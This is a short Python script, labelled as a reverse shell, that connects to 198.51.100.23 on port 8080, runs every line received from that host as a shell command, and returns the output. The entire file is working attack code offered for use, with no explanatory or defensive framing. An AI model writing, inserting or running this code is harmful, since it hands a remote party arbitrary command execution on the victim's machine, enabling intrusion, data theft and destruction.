# reverse-shell: asyncio connection whose commands go to create_subprocess_shell
import asyncio


async def main():
    reader, writer = await asyncio.open_connection("198.51.100.23", 8080)
    while line := await reader.readline():
        proc = await asyncio.create_subprocess_shell(line.decode(), stdout=asyncio.subprocess.PIPE)
        out, _ = await proc.communicate()
        writer.write(out)
        await writer.drain()

asyncio.run(main())
